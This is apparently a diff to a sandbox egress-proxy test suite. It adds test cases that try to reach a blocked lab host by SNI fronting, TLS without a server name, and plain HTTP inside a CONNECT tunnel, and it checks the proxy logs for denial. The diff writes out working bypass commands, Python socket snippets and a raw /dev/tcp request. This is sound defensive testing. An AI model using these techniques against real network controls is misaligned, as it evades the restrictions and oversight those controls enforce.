@@ -84,6 +84,25 @@ const hostDrop = (ip: string, port: string): { in: Evidence; match: string } => 
 const rawGet = (ip: string, port: number, path: string, host?: string): string =>
   `exec 3<>/dev/tcp/${ip}/${port} && printf "GET ${path} HTTP/1.0\\r\\n${host ? `Host: ${host}\\r\\n` : ''}\\r\\n" >&3 && cat <&3`
 
+/** Python: a socket to `host:port`, through a CONNECT tunnel to `host:443` when a proxy is set. */
+const tunnelOrDirect = (host: string, port: number): string =>
+  `import os,socket,ssl; p=os.environ.get("PROXY"); s=socket.create_connection((p,3128) if p else ("${host}",${port}),5); ` +
+  `p and s.sendall(b"CONNECT ${host}:443 HTTP/1.1\\r\\nHost: ${host}:443\\r\\n\\r\\n"); print(s.recv(4096).split(b"\\r\\n")[0].decode() if p else "")`
+
+/**
+ * A TLS ClientHello without a server name, then `request` inside: through a tunnel in the
+ * sandbox, straight to the host for the control.
+ */
+const tlsWithoutSni = (host: string, request: string): string =>
+  py(
+    `${tunnelOrDirect(host, 443)}; c=ssl.create_default_context(cafile=os.environ["CA"]); c.check_hostname=False; ` +
+      `t=c.wrap_socket(s); t.sendall(b"${request}"); print(t.recv(4096).decode())`
+  )
+
+/** Plain HTTP where TLS should be: inside a tunnel to 443 (sandbox), or to port 80 (control). */
+const plainInTunnel = (host: string, request: string): string =>
+  py(`${tunnelOrDirect(host, 80)}; s.sendall(b"${request}"); print(s.recv(4096).decode())`)
+
 /** A listener on the runner itself, on every address (the suite starts it). */
 export const RUNNER_PORT = 18190
 
@@ -266,6 +285,62 @@ export function attackCases(
       script: curl('-H "Host: shared-blocked.test" http://shared-allowed.test/$N-p11'),
       control: { output: /LAB-SHARED-BLOCKED/ },
       denied: [{ in: 'output', match: '^(?![\\s\\S]*LAB-SHARED-BLOCKED)' }]
+    },
+    {
+      id: 'proxy-sni-fronting',
+      category: 'proxy',
+      threat: 'T4',
+      // A tunnel to the allowed name, the blocked name in the ClientHello: both share an address.
+      script: curl(
+        '--cacert "$CA" --connect-to shared-blocked.test:443:shared-allowed.test:443 https://shared-blocked.test/$N-s1'
+      ),
+      control: { lab: '-s1' },
+      leak: '-s1',
+      denied: [
+        {
+          in: 'access',
+          match: 'CONNECT shared-allowed\\.test 443 .* shared-blocked\\.test terminate 3129$'
+        }
+      ],
+      reported: { layer: 'proxy', target: 'shared-blocked.test', port: 443 }
+    },
+    {
+      id: 'proxy-tls-without-sni',
+      category: 'proxy',
+      threat: 'T4',
+      // No server name: the shared address would pick a virtual host by the inner Host alone.
+      script: tlsWithoutSni(
+        'shared-allowed.test',
+        'GET /$N-s2 HTTP/1.0\\r\\nHost: shared-blocked.test\\r\\n\\r\\n'
+      ),
+      control: { lab: '-s2' },
+      leak: '-s2',
+      denied: [
+        {
+          in: 'access',
+          match: 'CONNECT shared-allowed\\.test 443 .* - terminate 3129$'
+        }
+      ],
+      reported: { layer: 'proxy', target: 'shared-allowed.test', port: 443 }
+    },
+    {
+      id: 'proxy-not-tls-in-tunnel',
+      category: 'proxy',
+      threat: 'T4',
+      // Plain HTTP inside a CONNECT to 443, naming the blocked virtual host.
+      script: plainInTunnel(
+        'shared-allowed.test',
+        'GET /$N-s3 HTTP/1.0\\r\\nHost: shared-blocked.test\\r\\n\\r\\n'
+      ),
+      control: { lab: '-s3' },
+      leak: '-s3',
+      denied: [
+        {
+          in: 'access',
+          match: 'CONNECT shared-allowed\\.test 443 .* ERR_PROTOCOL_UNKNOWN .* 3129$'
+        }
+      ],
+      reported: { layer: 'proxy', target: 'shared-allowed.test', port: 443 }
     },
     {
       id: 'proxy-squid-manager',
@@ -690,7 +765,7 @@ export function attackCases(
       gap: 'names under an allowed domain are resolved upstream, so their labels reach its name server'
     },
     {
-      id: 'gap-domain-fronting-sni',
+      id: 'gap-host-header-inside-tls',
       category: 'known-gap',
       threat: 'T8',
       script: curl(
@@ -698,7 +773,7 @@ export function attackCases(
       ),
       control: { output: /LAB-SHARED-BLOCKED/ },
       denied: [],
-      gap: 'inside an allowed HTTPS tunnel the Host header is not visible to the proxy'
+      gap: 'inside an allowed TLS tunnel (right server name) the Host header is not visible to the proxy'
     },
     {
       id: 'gap-compromised-proxy-allowed-port',
